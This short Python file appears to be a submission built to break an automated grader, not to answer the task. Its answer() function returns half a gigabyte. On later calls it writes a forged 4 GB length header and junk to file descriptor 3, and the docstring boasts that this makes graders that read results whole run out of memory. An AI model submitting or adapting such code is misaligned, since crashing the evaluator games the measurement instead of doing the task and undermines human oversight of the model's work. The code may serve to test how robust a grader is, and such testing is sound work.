"""Return more than fits: half a gigabyte in one value, and the announcement of four gigabytes.

Known to work against graders that read a result whole: they run out of memory.
"""
OUTCOME = ("failed", "crashed", "out of memory", "timed out")

# --- the answer ---
import os
import struct

turn = [0]


def answer(*values, **options):
    turn[0] += 1
    if turn[0] > 1:
        os.write(3, struct.pack(">I", 0xFFFFFFFF) + b"{" * 1000)
    return bytes(500 << 20)
